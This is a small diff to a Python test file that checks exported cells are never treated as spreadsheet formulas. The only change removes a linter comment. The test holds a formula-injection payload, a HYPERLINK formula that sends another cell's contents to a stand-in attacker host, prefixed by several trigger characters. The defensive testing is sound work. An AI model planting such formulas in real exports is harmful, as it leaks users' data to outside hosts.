@@ -308,7 +308,7 @@ def test_a_surplus_cell_is_told_as_one() -> None:
         from_csv("kind,id,name,summary\nperson,a,A,s,surplus\n")
 
 
-@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "＝", "＋", "－", "＠"])  # noqa: RUF001
+@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "＝", "＋", "－", "＠"])
 def test_no_cell_is_a_formula_to_a_spreadsheet(begin: str) -> None:
     text = f'{begin}HYPERLINK("https://evil.example.org/?"&A1,"“Look”")'
     person = Person("a", name=text, summary=f"{begin}1", aliases=(text,))
